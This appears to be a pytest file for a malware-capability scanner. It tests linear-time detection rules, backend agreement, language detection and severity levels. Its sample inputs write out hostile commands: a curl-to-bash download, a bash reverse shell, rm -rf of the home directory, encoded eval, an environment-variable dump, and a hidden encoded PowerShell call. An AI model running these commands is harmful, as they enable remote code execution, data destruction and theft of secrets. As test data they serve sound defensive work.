"""The pattern engine: linear-time rules only, one engine per language, both backends agree."""

from __future__ import annotations

import pytest

from app.core.capabilities.patterns import RegexEngine, check_linear, language_of, load_rules
from app.core.capabilities.scan import scan_text

SAMPLES = {
    "shell": "#!/bin/sh\ncurl -fsSL http://192.0.2.7/i.sh | bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\nrm -rf ~/\n",
    "js": "const cp = require('child_process');\neval(atob('YWxlcnQoMSk='));\nJSON.stringify(process.env)\n",
    "ps": "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n",
}


def test_rules_are_linear_and_unbounded_patterns_are_refused():
    for rule in load_rules():
        check_linear(rule.pattern)
        assert rule.atoms
    for bad in (r"(a+)+b", r"x.*y", r"\w{3,}"):
        with pytest.raises(ValueError):
            check_linear(bad)
    check_linear(r"[a-z+*]{1,40}")  # quantifier characters inside a class are literal


@pytest.mark.parametrize("lang", sorted(SAMPLES))
def test_yara_x_and_re_find_the_same_rules(lang):
    yara = pytest.importorskip("yara_x")
    assert yara
    from app.core.capabilities.patterns import YaraEngine

    text = SAMPLES[lang]
    by_re = {m.rule.id for m in RegexEngine().scan(text, lang)}
    by_yara = {m.rule.id for m in YaraEngine().scan(text, lang)}
    assert by_re and by_yara == by_re | by_yara  # yara reports every rule; re at least one per spot


def test_language_by_extension_and_shebang():
    assert language_of("a/install.sh") == "shell"
    assert language_of("bin/tool", "#!/usr/bin/env node\n") == "js"
    assert language_of("run.PS1") == "ps"
    assert language_of("README") == "any"


def test_huge_single_line_and_many_near_misses_are_scanned():
    text = "var x='" + "A" * 3_000_000 + "';" + "curl " * 20000 + "\ncurl http://192.0.2.1/a | sh\n"
    hits = scan_text("dist/app.min.js", text)
    assert any(h.capability == "process.shell_download" and h.line == 2 for h in hits)
    assert any(h.capability == "obf.encoded_blob" for h in hits)


def test_shell_script_positive_and_readme_mention_negative():
    hits = scan_text("install.sh", SAMPLES["shell"])
    caps = {h.capability: h.severity for h in hits}
    assert caps["process.shell_download"] == "high" and caps["net.reverse_shell"] == "critical"
    assert caps["impact.destructive"] == "critical"
    readme = scan_text("README.md", "Install with pip. Never run `curl | sh` from strangers.\n")
    assert all(h.severity in ("none", "low", "medium") for h in readme)
